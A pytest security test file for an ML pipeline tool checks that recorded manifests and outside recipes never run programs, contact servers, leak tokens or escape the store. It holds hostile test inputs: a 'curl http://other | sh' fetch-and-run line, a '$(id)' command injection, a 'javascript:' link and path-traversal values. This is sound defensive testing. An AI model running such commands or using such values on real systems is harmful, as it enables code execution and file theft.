"""Tests of a store and of a recipe that somebody else wrote: they run no program, ask no server, and lead nowhere else."""

import json
import os
import shlex
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from stages.cli import compose, recipes
from stages.config.command_record import Object
from stages.config.commands import commands_on
from stages.config.errors import UserError
from stages.config.stage_table import STAGES
from stages.pages import runs
from stages.pipeline.provenance import JOB_NODES
from stages.store.manifest import command_of, read_manifest
from stages.store.node import Node, published_node
from stages.store.sealed_json import Damaged
from stages.store.store import Store
from stages.tracking import wandb
from tests.endpoints.servers import Quiet, Server, running
from tests.helpers import SECRET, TINY, Chain, composed, inside, needing, refused, settings

Edit = Callable[[dict[str, Any]], object]


class Refusing(Quiet):
    """Notes a request with its headers, and refuses it."""

    server: "Listener"

    def refuse(self) -> None:
        self.server.seen.append(f"{self.requestline} {self.headers}")
        self.send_error(401)

    do_GET = do_POST = refuse  # http.server's names


class Listener(Server):
    """A server that notes every request, with its headers."""

    def __init__(self) -> None:
        super().__init__(Refusing)
        self.seen = list[str]()


@pytest.fixture
def listener(monkeypatch: pytest.MonkeyPatch) -> Iterator[Listener]:
    """A server that must see nothing of the token in this environment."""
    monkeypatch.setenv("HF_TOKEN", SECRET)
    with running(Listener()) as listener:
        yield listener


@pytest.fixture
def program(tmp_path: Path) -> Path:
    """A program that says yes to all, and leaves the file `was-run` beside it."""
    program = tmp_path / "program"
    program.write_text(f"#!/bin/sh\ntouch {tmp_path / 'was-run'}\necho True\n")
    program.chmod(0o755)
    return program


def was_run(program: Path) -> bool:
    return program.with_name("was-run").exists()


def edit(node: Path, change: Edit) -> None:
    """Change the manifest of a node."""
    file = node / "manifest.json"
    manifest = json.loads(file.read_text())
    change(manifest)
    file.write_text(json.dumps(manifest))


def hostile_settings(program: Path, url: str) -> list[str]:
    endpoint = f"{{base_url: {url}, model: m, api_key_env: HF_TOKEN}}"
    return [
        "recipe=tiny",
        "sample=vllm",
        f"sample.runtime.python={program}",
        f"answer.runtime.python={program}",
        "answer.sampler=vllm",
        "benchmark.tasks=[ifeval]",
        f"benchmark.runtime.python={program}",
        "label=judge",
        f"label.endpoints=[{endpoint}]",
        f"store.remote={program.parent}/remote",
    ]


# Commands that read what a store recorded, each with the keys that make them short
EXTRAS_ON_STORE = {
    "chat": ("chat.max_new_tokens=2",),
    "export": ("export.format=dataset",),
    "compare": (),
    "doctor": (),
    "gc": (),
}


def of_extra(name: str, *keys: str) -> Any:
    """Return the arguments of an extra's command as a case of a test."""
    return pytest.param((f"stage={name}", *keys), marks=pytest.mark.extra(name))


@pytest.mark.extended
@pytest.mark.parametrize(
    "line",
    [
        ("stage=plan",),
        ("stage=report",),
        ("stage=report", "report.side_by_side=2"),
        ("stage=report", "rebuild=report"),
        *(of_extra(name, *keys) for name, keys in EXTRAS_ON_STORE.items()),
    ],
)
def test_no_recorded_program_is_run_and_no_server_asked(
    line: tuple[str, ...], chain: Chain, program: Path, listener: Listener
) -> None:
    recorded = hostile_settings(program, listener.url)
    command = shlex.join(["python", "run.py", "stage=report", *recorded])
    configuration = {
        "runtime": {"python": str(program)},
        "endpoints": [{"base_url": listener.url, "api_key_env": "HF_TOKEN"}],
        "own": {"file": str(program), "name": "Mine"},
    }
    for folder, _ in Store(chain.root).manifests():
        edit(folder, lambda manifest: manifest.update(command=command))
        edit(folder, lambda manifest: manifest["config"].update(configuration))
        edit(folder, lambda manifest: manifest.update(remote=listener.url, published_by="me"))
    ran = inside(*line, f"outputs={chain.root}", typed="Name a colour.")
    assert ran.returncode == 0, ran.stderr
    assert not was_run(program) and not listener.seen
    assert not (program.parent / "remote").exists()
    assert SECRET not in ran.stdout + ran.stderr


def hostile_recipe(folder: Path, text: str) -> str:
    """Return the argument that names a recipe on top of `tiny`."""
    file = folder / "hostile.yaml"
    file.write_text(f"defaults:\n  - tiny\n{text}")
    return f"recipe={file}"


@pytest.mark.extended
@pytest.mark.parametrize(
    ("text", "key"),
    [
        (
            "  - override /sample: vllm\nsample: {runtime: {python: PROGRAM}}\n",
            "sample.runtime.python",
        ),
        ("answer: {sampler: vllm, runtime: {python: PROGRAM}}\n", "answer.runtime.python"),
        needing(
            "benchmarks",
            "benchmark: {tasks: [ifeval], runtime: {python: PROGRAM}}\n",
            "benchmark.runtime.python",
        ),
        (
            "answer: {sampler: vllm, runtime: {python: '${oc.decode:PROGRAM}'}}\n",
            "answer.runtime.python",
        ),
    ],
)
def test_the_first_line_names_a_recipes_program_and_a_plan_does_not_run_it(
    text: str, key: str, built: Path, program: Path
) -> None:
    recipe = hostile_recipe(program.parent, text.replace("PROGRAM", str(program)))
    plan = inside(recipe, f"outputs={built}", "tracker=none", "stage=plan")
    assert plan.returncode == 0, plan.stderr
    first_line = (plan.stdout + plan.stderr).splitlines()[0]
    assert first_line.startswith(f"recipe: {program.parent}") and f"{key}=" in first_line
    assert not was_run(program)
    typed = inside(recipe, f"outputs={built}", "tracker=none", "stage=plan", f"{key}={program}")
    assert was_run(program) and f"{key}=" not in typed.stdout


@pytest.mark.parametrize(
    ("text", "named"),
    [
        (
            "  - override /label: judge\n"
            "label: {endpoints: [{base_url: http://a/v1, model: m, api_key_env: HF_TOKEN}]}\n",
            ("label.endpoints[0].base_url=http://a/v1", "label.endpoints[0].api_key_env=HF_TOKEN"),
        ),
        needing("shared_store", "store: {remote: s3://bucket}\n", ("store.remote=s3://bucket",)),
        ("model: {revision: '${oc.env:HF_TOKEN}'}\n", ("model.revision=${oc.env:HF_TOKEN}",)),
        needing(
            "benchmarks",
            "benchmark: {tasks_dir: /nowhere}\n",
            ("benchmark.tasks_dir=/nowhere",),
        ),
        pytest.param(
            "launch: {address: 'other:6379'}\n",
            ("launch.address=other:6379",),
            marks=pytest.mark.extra("ray"),
        ),
    ],
)
def test_the_first_line_names_a_recipes_server_and_key(
    text: str, named: tuple[str, ...], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HF_TOKEN", SECRET)
    recipe = hostile_recipe(tmp_path, text)
    typed = {"recipe": "hostile.yaml"}
    reaches = compose.untyped_reaches(composed(recipe, f"outputs={tmp_path}"), typed)
    first_line = recipes.describe_recipe(typed, reaches)
    for setting in named:
        assert setting in first_line
    assert SECRET not in first_line


@pytest.mark.extended
def test_a_recipes_server_is_named_before_it_is_asked(
    built: Path, tmp_path: Path, listener: Listener
) -> None:
    endpoint = f"{{base_url: '{listener.url}', model: m, api_key_env: HF_TOKEN}}"
    judge = f"  - override /label: judge\nlabel: {{endpoints: [{endpoint}]}}\n"
    recipe = hostile_recipe(tmp_path, judge)
    plan = inside(recipe, f"outputs={built}", "tracker=none", "stage=plan")
    assert plan.returncode == 0, plan.stderr
    first_line = (plan.stdout + plan.stderr).splitlines()[0]
    assert first_line.startswith("recipe: ") and listener.url in first_line
    assert "HF_TOKEN" in first_line and not listener.seen


@pytest.mark.parametrize(
    "change",
    [
        lambda m: m["files"].update({"../../x": {"bytes": 1, "sha256": "0" * 64}}),
        lambda m: m["files"].update({"/etc/hostname": {"bytes": 1, "sha256": "0" * 64}}),
        lambda m: m["inputs"]["eval"].update(stage="../../elsewhere"),
        lambda m: m["inputs"]["eval"].update(stage="/etc"),
        lambda m: m["inputs"]["eval"].update(fingerprint="../../../x"),
        lambda m: m["inputs"]["eval"].update(fingerprint=["x"]),
        lambda m: m.update(fingerprint="../../../../x"),
        lambda m: m.update(stage="a/b"),
        lambda m: m.update(inputs=[]),
        lambda m: m.update(inputs={"eval": "x"}),
        lambda m: m.update(config=7),
        lambda m: m.update(metrics=None),
        lambda m: m.update(ended="yesterday"),
    ],
)
def test_a_manifest_that_leads_out_of_the_store_is_none(change: Edit, chain: Chain) -> None:
    report = chain.folder("report")
    edit(report, change)
    assert read_manifest(report) is None
    assert refused("stage=report", f"outputs={chain.root}").startswith("stage=report: ")


@pytest.mark.parametrize("stage", ["plan", "report", *commands_on(Object.model)])
def test_a_node_among_its_own_inputs_is_one_line(stage: str, chain: Chain) -> None:
    report = chain.folder("report")
    own = {"stage": "report", "fingerprint": report.name}
    edit(report, lambda manifest: manifest["inputs"]["eval"].update(own))
    assert "among its own inputs" in refused(f"stage={stage}", f"outputs={chain.root}")


@pytest.mark.extra("doctor")
@pytest.mark.parametrize("name", ["results.json", "unlisted.json", "manifest.json"])
def test_a_link_in_a_node_is_not_followed(name: str, chain: Chain, tmp_path: Path) -> None:
    place = chain.folder("eval") / name
    elsewhere = tmp_path / "elsewhere"
    elsewhere.write_bytes(place.read_bytes() if place.exists() else b"{}")
    place.unlink(missing_ok=True)
    place.symlink_to(elsewhere)
    assert read_manifest(place.parent) is None
    assert place.parent.name in refused("stage=report", f"outputs={chain.root}")
    assert "damaged" in refused("stage=doctor", f"outputs={chain.root}")


@pytest.mark.extended
def test_a_half_built_node_writes_through_no_link(chain: Chain, tmp_path: Path) -> None:
    report = published_node(chain.root, "report", chain.folder("report").name, {})
    cfg = replace(settings(*TINY).report, side_by_side=2)
    node = Node("report", STAGES["report"].version, cfg, report.inputs)
    store = Store(chain.root)
    partial = store.partial(node)
    (partial / "scratch").mkdir(parents=True)
    digests = json.dumps(store.read_input_digests(node))
    (partial / "scratch" / "inputs.json").write_text(digests)
    precious = tmp_path / "precious"
    precious.write_text("mine")
    (partial / "report.html").symlink_to(precious)
    ran = inside("stage=report", f"outputs={chain.root}", "report.side_by_side=2")
    assert ran.returncode == 0, ran.stderr
    assert precious.read_text() == "mine" and store.find(node)


@pytest.mark.parametrize("stage", commands_on(Object.model))
def test_an_evaluation_of_something_else_is_one_line(stage: str, chain: Chain) -> None:
    edit(chain.folder("eval"), lambda manifest: manifest["config"].update(models={"x": "y"}))
    keys = EXTRAS_ON_STORE.get(stage, ())
    assert "is damaged" in refused(f"stage={stage}", *keys, f"outputs={chain.root}")


def test_a_manifest_of_something_else_is_one_line(chain: Chain) -> None:
    edit(chain.folder("report"), lambda manifest: manifest.update(inputs={}))
    assert "is damaged" in refused("stage=report", f"outputs={chain.root}")


def test_pages_show_a_recorded_command_only_as_one(chain: Chain) -> None:
    manifest = chain.manifest("eval")
    assert command_of(manifest) == manifest["command"]
    other = "python run.py stage=eval; curl http://other | sh"
    assert command_of(manifest | {"command": other}) == "python run.py stage=eval"
    spliced = "python run.py a=1;x=$(id)"
    assert command_of(manifest | {"command": spliced}) == "python run.py 'a=1;x=$(id)'"


@pytest.mark.parametrize("page", ["javascript:alert(1)", "../../x", "/etc/hostname", 7, None])
def test_the_list_of_runs_links_to_files_of_the_store(page: object, tmp_path: Path) -> None:
    folder = tmp_path / runs.PAGES
    folder.mkdir()
    if isinstance(page, str) and ":" in page:
        (tmp_path / page).touch()
    entry = dict.fromkeys(runs.ENTRY, "") | {"page": page, "started": 1.0}
    (folder / "one.json").write_text(json.dumps(entry))
    assert runs.runs(tmp_path) == []


@pytest.mark.extra("sync")
@pytest.mark.parametrize("place", ["settings", "wandb/settings", ".wandb/settings"])
def test_settings_of_wandb_in_a_store_are_refused(
    place: str, tmp_path: Path, listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WANDB_API_KEY", SECRET)
    file = tmp_path / "cache" / "wandb" / place
    file.parent.mkdir(parents=True)
    file.write_text(f"[default]\nbase_url = {listener.url}\n")
    with pytest.raises(UserError, match="WANDB_BASE_URL"):
        wandb.use_folder(tmp_path / "cache" / "wandb")
    assert refused("stage=sync", f"outputs={tmp_path}").startswith(str(file))
    assert not listener.seen and "WANDB_DIR" not in os.environ


def test_a_damaged_line_names_no_other_program(chain: Chain) -> None:
    folder = chain.folder("eval")
    edit(folder, lambda manifest: manifest.update(command="curl http://other | sh"))
    message = str(Damaged(folder / "results.json", "changed"))
    assert "curl" not in message and "stage=eval" in message


@pytest.mark.extra("compare", "gc")
@pytest.mark.parametrize("note", ['{"dpo": ["x"]}', "[]", "7", '{"dpo": {}}'])
def test_a_sweeps_note_of_something_else_is_one_line(note: str, chain: Chain) -> None:
    job = chain.root / "multirun" / "sweep" / "0"
    job.mkdir(parents=True)
    (job / JOB_NODES).write_text(note)
    message = refused("stage=compare", f"outputs={chain.root}", f"compare.sweep={job.parent}")
    assert message.startswith(str(job / JOB_NODES))
    assert refused("stage=gc", f"outputs={chain.root}", "gc.remove=true").startswith("gc.remove")
